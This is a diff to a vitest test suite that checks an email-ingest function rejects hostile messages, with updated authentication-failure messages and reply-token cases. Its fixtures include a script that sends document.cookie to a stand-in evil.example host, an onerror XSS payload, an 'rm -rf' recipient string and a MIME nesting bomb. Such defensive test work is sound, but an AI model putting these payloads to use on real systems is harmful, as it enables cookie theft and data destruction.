@@ -2,6 +2,7 @@ import { randomBytes } from 'node:crypto';
 import { CreateBucketCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
 import type { SQSClient } from '@aws-sdk/client-sqs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { mintReplyToken } from '../../core/email-thread.ts';
 import { APPROVAL_TOKEN_PURPOSE, EMAIL_REPLY_TOKEN_PURPOSE } from '../../core/inbound-event.ts';
 import { signToken } from '../../core/signed-token.ts';
 import { createSlackApp } from '../../functions/slack/app.ts';
@@ -10,7 +11,7 @@ import { parseInboundEmail, type ParseInboundEmailInput } from '../../functions/
 import { createSqsEventQueue } from '../../functions/shared/sqs-sdk-queue.ts';
 import { silentLog } from '../../functions/shared/log.ts';
 import { MOTO_CLIENT_CONFIG, startMoto, type MotoServer } from '../support/moto.ts';
-import { mime, receipt, sesRecord } from './email-fixtures.ts';
+import { mime, receipt, sesMail, sesRecord } from './email-fixtures.ts';
 import {
   APPROVAL_SECRET,
   REPLY_SECRET,
@@ -149,8 +150,7 @@ const nestingBomb = () => {
   for (let depth = 0; depth < 60; depth++) part = `Content-Type: multipart/mixed; boundary="b${depth}"\r\n\r\n--b${depth}\r\n${part}--b${depth}--\r\n`;
   return part;
 };
-const replyToken = (secret: string, expiresInSeconds?: number) =>
-  signToken({ conversationId: 'email:root@mail.example.com' }, secret, { purpose: EMAIL_REPLY_TOKEN_PURPOSE, ...(expiresInSeconds === undefined ? {} : { expiresInSeconds }) });
+const oldStyleReplyToken = () => signToken({ conversationId: 'email:root@mail.example.com' }, REPLY_SECRET, { purpose: EMAIL_REPLY_TOKEN_PURPOSE });
 
 interface EmailCase {
   name: string;
@@ -161,8 +161,8 @@ interface EmailCase {
 const emailCases: EmailCase[] = [
   { name: 'spam verdict FAIL', input: () => ({ raw: mime(), receipt: receipt({ spamVerdict: { status: 'FAIL' } }) }), reason: 'spam verdict is FAIL' },
   { name: 'virus verdict FAIL', input: () => ({ raw: mime(), receipt: receipt({ virusVerdict: { status: 'FAIL' } }) }), reason: 'virus verdict is FAIL' },
-  { name: 'SPF and DKIM both FAIL', input: () => ({ raw: mime(), receipt: receipt({ spfVerdict: { status: 'FAIL' }, dkimVerdict: { status: 'FAIL' } }) }), reason: 'neither SPF (FAIL) nor DKIM (FAIL) passed' },
-  { name: 'SPF GRAY and no DKIM verdict', input: () => ({ raw: mime(), receipt: receipt({ spfVerdict: { status: 'GRAY' }, dkimVerdict: undefined }) }), reason: 'neither SPF (GRAY) nor DKIM (missing) passed' },
+  { name: 'SPF and DKIM both FAIL', input: () => ({ raw: mime(), receipt: receipt({ spfVerdict: { status: 'FAIL' }, dkimVerdict: { status: 'FAIL' }, dmarcVerdict: { status: 'GRAY' } }) }), reason: 'From domain example.com is not authenticated: DMARC GRAY, SPF FAIL for example.com, DKIM FAIL' },
+  { name: 'SPF GRAY and no DKIM verdict', input: () => ({ raw: mime(), receipt: receipt({ spfVerdict: { status: 'GRAY' }, dkimVerdict: undefined, dmarcVerdict: undefined }) }), reason: 'From domain example.com is not authenticated: DMARC missing, SPF GRAY for example.com, DKIM missing' },
   { name: 'sender not on the allow-list', input: () => ({ raw: mime({ from: 'Mallory <mallory@evil.example>' }), receipt: receipt() }), reason: 'sender mallory@evil.example is not in EMAIL_ALLOWED_SENDERS' },
   { name: 'look-alike of an allowed domain', input: () => ({ raw: mime({ from: 'x@evil.trusted.example' }), receipt: receipt() }), reason: 'sender x@evil.trusted.example is not in EMAIL_ALLOWED_SENDERS' },
   { name: 'forged From with failing DKIM (SPF passes for the envelope domain)', input: () => ({ raw: mime({ from: 'Ana <ana@example.com>' }), receipt: receipt({ dkimVerdict: { status: 'FAIL' }, dmarcVerdict: { status: 'FAIL' } }) }), reason: 'DMARC verdict is FAIL' },
@@ -170,21 +170,22 @@ const emailCases: EmailCase[] = [
   { name: 'huge header', input: () => ({ raw: mime({ extraHeaders: [`X-Padding: ${'A'.repeat(200_000)}`] }), receipt: receipt() }), reason: /^message could not be parsed: Maximum header size of \d+ bytes exceeded/ },
   { name: 'MIME nesting bomb', input: () => ({ raw: mime({ rawBodyPart: nestingBomb() }), receipt: receipt() }), reason: /^message could not be parsed: Maximum MIME nesting depth of \d+ levels exceeded/ },
   { name: 'a hundred and one attachments', input: () => ({ raw: mime({ rawBodyPart: attachmentsBomb() }), receipt: receipt() }), reason: 'message has 101 attachments, over 100' },
-  { name: 'non-UTF-8 garbage instead of a message', input: () => ({ raw: new Uint8Array(randomBytes(4000)), receipt: receipt() }), reason: 'message has no single From address' },
+  { name: 'non-UTF-8 garbage instead of a message', input: () => ({ raw: new Uint8Array(randomBytes(4000)), receipt: receipt() }), reason: 'message has 0 From headers, not one' },
   { name: 'binary garbage in a UTF-8 text body', input: () => ({ raw: Buffer.concat([Buffer.from(mime({ rawBodyPart: 'Content-Type: text/plain; charset=utf-8\r\n\r\n' })), randomBytes(3000)]), receipt: receipt() }), reason: 'body is not readable text (binary or invalid UTF-8)' },
   { name: 'HTML-only body with a script', input: () => ({ raw: mime({ rawBodyPart: 'Content-Type: text/html; charset=utf-8\r\n\r\n<p>Invoice</p><script>fetch("https://evil.example/?"+document.cookie)</script>' }), receipt: receipt() }), reason: 'HTML body contains active content (script, handlers or frames)' },
   { name: 'HTML-only body with an onerror handler', input: () => ({ raw: mime({ rawBodyPart: 'Content-Type: text/html\r\n\r\n<img src=x onerror="alert(1)">' }), receipt: receipt() }), reason: 'HTML body contains active content (script, handlers or frames)' },
   { name: 'raw message over the size limit', input: () => ({ raw: mime({ body: 'x'.repeat(1024 * 1024) }), receipt: receipt() }), reason: /^message is \d+ bytes, over the limit of 1048576$/ },
   { name: 'recipient that names no agent', input: () => ({ raw: mime(), receipt: receipt({ recipients: ['"rm -rf"@agents.example.com'] }) }), reason: 'no recipient names an agent (expected agent@ or agent+token@)' },
-  { name: 'reply token signed with another secret', input: () => ({ raw: mime(), receipt: receipt({ recipients: [`assistant+${replyToken('forged')}@agents.example.com`] }) }), reason: 'reply token rejected: token signature does not match' },
-  { name: 'expired reply token', input: () => ({ raw: mime(), receipt: receipt({ recipients: [`assistant+${replyToken(REPLY_SECRET, -1)}@agents.example.com`] }) }), reason: 'reply token rejected: token has expired' },
-  { name: 'From header that is a group', input: () => ({ raw: mime({ from: 'Undisclosed: ana@example.com, bob@example.com;' }), receipt: receipt() }), reason: 'message has no single From address' },
+  { name: 'reply token signed with another secret', input: () => ({ raw: mime(), receipt: receipt({ recipients: [`assistant+${mintReplyToken('forged').token}@agents.example.com`] }) }), reason: 'reply token rejected: reply token signature does not match' },
+  { name: 'reply token in the old, long signed format', input: () => ({ raw: mime(), receipt: receipt({ recipients: [`assistant+${oldStyleReplyToken()}@agents.example.com`] }) }), reason: 'reply token rejected: reply token is malformed' },
+  { name: 'From header that is a group', input: () => ({ raw: mime({ from: 'Undisclosed: ana@example.com, bob@example.com;' }), receipt: receipt() }), reason: 'From is a group, not one address' },
   { name: 'neither text nor subject', input: () => ({ raw: mime({ subject: '', body: '> only a quote' }), receipt: receipt() }), reason: 'message has neither text nor subject' },
 ];
 
 describe('hostile emails', () => {
   it.each(emailCases)('$name is rejected', async ({ input, reason }) => {
-    const result = await parseInboundEmail({ ...input(), s3Key: 'inbound/hostile', config: emailConfig(queueUrl) });
+    const { raw, receipt: caseReceipt } = input();
+    const result = await parseInboundEmail({ raw, receipt: caseReceipt, mail: sesMail(raw), s3Key: 'inbound/hostile', config: emailConfig(queueUrl) });
     expect(result).toHaveProperty('rejected');
     const said = 'rejected' in result ? result.rejected : '';
     if (typeof reason === 'string') expect(said).toBe(reason);
@@ -199,7 +200,7 @@ describe('hostile emails', () => {
         const { raw, receipt: caseReceipt } = emailCase.input();
         const key = `inbound/hostile-${index}`;
         await s3.send(new PutObjectCommand({ Bucket: bucket, Key: key, Body: raw }));
-        return sesRecord({ bucket, key, receipt: caseReceipt, sqsMessageId: `record-${index}` });
+        return sesRecord({ bucket, key, receipt: caseReceipt, raw, sqsMessageId: `record-${index}` });
       }),
     );
     const logged: Record<string, unknown>[] = [];
